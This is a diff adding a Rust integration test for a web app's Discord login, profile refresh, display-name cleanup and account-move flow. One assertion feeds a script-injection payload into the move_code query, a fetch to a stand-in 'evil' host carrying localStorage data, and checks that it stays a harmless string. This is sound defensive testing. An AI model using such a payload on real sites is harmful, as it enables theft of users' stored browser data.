@@ -0,0 +1,125 @@
+mod common;
+
+use rocket::http::Status;
+use rocket::serde::json::Value;
+use serde_json::json;
+use crate::common::mock_discord::MockDiscordUser;
+use crate::common::{expect_error, expect_json, TestApp, TestUser};
+
+
+#[rocket::async_test]
+async fn accounts_refresh_profiles_and_move_to_new_discord_accounts() {
+    let app: TestApp = TestApp::spawn().await;
+
+    // many discord accounts never set a display name
+    let mut discord_user = MockDiscordUser::new("400000000000000001", "plain");
+    discord_user.global_name = None;
+    let user: TestUser = app.register_as("mover", discord_user).await;
+
+    let response = app.client.get("/api/v1/account/mover").dispatch().await;
+    let profile: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(profile["username"], "mover");
+    assert_eq!(profile["displayName"], Value::Null);
+    assert_eq!(profile["avatarUrl"], Value::Null);
+
+    let response = app.client.get("/api/v1/account/nobody").dispatch().await;
+    expect_error(response, Status::NotFound, "account_not_found").await;
+
+    // logging in again picks up the new display name and avatar and keeps the refresh token
+    let mut discord_user: MockDiscordUser = user.discord.clone();
+    discord_user.global_name = Some("Mover Person".to_string());
+    discord_user.avatar = Some("a1b2c3".to_string());
+    let code: String = app.discord.authorize(&discord_user);
+    let response = app.client.get(format!("/api/v1/auth/discord?code={code}")).dispatch().await;
+    let auth: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(auth["username"], "mover");
+
+    let response = app.client.get("/api/v1/account/mover").dispatch().await;
+    let profile: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(profile["displayName"], "Mover Person");
+    assert_eq!(profile["avatarUrl"], "https://cdn.discordapp.com/avatars/400000000000000001/a1b2c3.png");
+
+    // display names are cleaned up like all other text; if nothing is left, there is none
+    for (global_name, display_name) in [("\u{202E}Mover\u{200B} Person\u{7}  ", json!("Mover Person")), (" \u{200B}\u{3164} ", Value::Null)] {
+        discord_user.global_name = Some(global_name.to_string());
+        let code: String = app.discord.authorize(&discord_user);
+        expect_json(app.client.get(format!("/api/v1/auth/discord?code={code}")).dispatch().await, Status::Ok).await;
+        let response = app.client.get("/api/v1/account/mover").dispatch().await;
+        assert_eq!(expect_json(response, Status::Ok).await["displayName"], display_name);
+    }
+
+    let mut database = app.database().await;
+    let refresh_token: Option<String> = sqlx::query_scalar("SELECT refresh_token FROM identities WHERE subject = $1")
+        .bind("400000000000000001")
+        .fetch_one(&mut database).await.unwrap();
+    assert!(refresh_token.is_some_and(|token| token.starts_with("refresh-")));
+
+    // the account starts the move...
+    let start_move = |provider_user_id: &str| json!({
+        "username": user.username,
+        "access_token": user.access_token,
+        "provider": "discord",
+        "provider_user_id": provider_user_id,
+    });
+    let response = app.client.post("/api/v1/identities/move").json(&start_move("400000000000000099")).dispatch().await;
+    expect_error(response, Status::NotFound, "identity_not_linked").await;
+    let response = app.client.post("/api/v1/identities/move").json(&start_move("400000000000000001")).dispatch().await;
+    let started: Value = expect_json(response, Status::Ok).await;
+    let move_code: &str = started["moveCode"].as_str().unwrap();
+    let response = app.client.get(format!("/goto_move/discord?move_code={move_code}")).dispatch().await;
+    let page: String = response.into_string().await.unwrap_or_default();
+    assert!(page.contains(&format!(r#"localStorage.setItem("moveCode", "{move_code}");"#)), "{page}");
+    // the code comes from the query and is only ever a string in the script
+    let response = app.client.get("/goto_move/discord?move_code=%27);fetch(%27//evil/%27%2BlocalStorage.x)//").dispatch().await;
+    let page: String = response.into_string().await.unwrap_or_default();
+    assert!(page.contains(r#"localStorage.setItem("moveCode", "');fetch('//evil/'+localStorage.x)//");"#), "{page}");
+
+    // ...and the new discord account confirms it
+    let new_discord_user = MockDiscordUser::new("400000000000000002", "plain_new");
+    let code: String = app.discord.authorize(&new_discord_user);
+    let response = app.client.get(format!("/api/v1/auth/discord?code={code}")).dispatch().await;
+    let auth: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(auth["register"], true);
+
+    let confirm = |move_code: &str| json!({
+        "move_code": move_code,
+        "provider": "discord",
+        "provider_user_id": "400000000000000002",
+        "provider_access_token": auth["providerAccessToken"],
+    });
+    let response = app.client.post("/api/v1/identities/move/confirm").json(&confirm("made-up")).dispatch().await;
+    expect_error(response, Status::NotFound, "identity_move_not_found").await;
+    let response = app.client.post("/api/v1/identities/move/confirm").json(&confirm(move_code)).dispatch().await;
+    let moved: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(moved["username"], "mover");
+    let response = app.client.post("/api/v1/identities/move/confirm").json(&confirm(move_code)).dispatch().await;
+    expect_error(response, Status::NotFound, "identity_move_not_found").await;
+
+    let response = app.client.get("/api/v1/account/mover").dispatch().await;
+    let profile: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(profile["displayName"], "plain_new");
+
+    let code: String = app.discord.authorize(&new_discord_user);
+    let response = app.client.get(format!("/api/v1/auth/discord?code={code}")).dispatch().await;
+    let auth: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(auth["username"], "mover");
+
+    let code: String = app.discord.authorize(&user.discord);
+    let response = app.client.get(format!("/api/v1/auth/discord?code={code}")).dispatch().await;
+    let auth: Value = expect_json(response, Status::Ok).await;
+    assert_eq!(auth["register"], true);
+
+    // accounts can not be moved onto an identity that already has one
+    let other: TestUser = app.register("other", "400000000000000003").await;
+    let response = app.client.post("/api/v1/identities/move").json(&start_move("400000000000000002")).dispatch().await;
+    let started: Value = expect_json(response, Status::Ok).await;
+    let response = app.client.post("/api/v1/identities/move/confirm")
+        .json(&json!({
+            "move_code": started["moveCode"],
+            "provider": "discord",
+            "provider_user_id": "400000000000000003",
+            "provider_access_token": app.discord.access_token(&other.discord),
+        }))
+        .dispatch().await;
+    expect_error(response, Status::Conflict, "identity_already_linked").await;
+}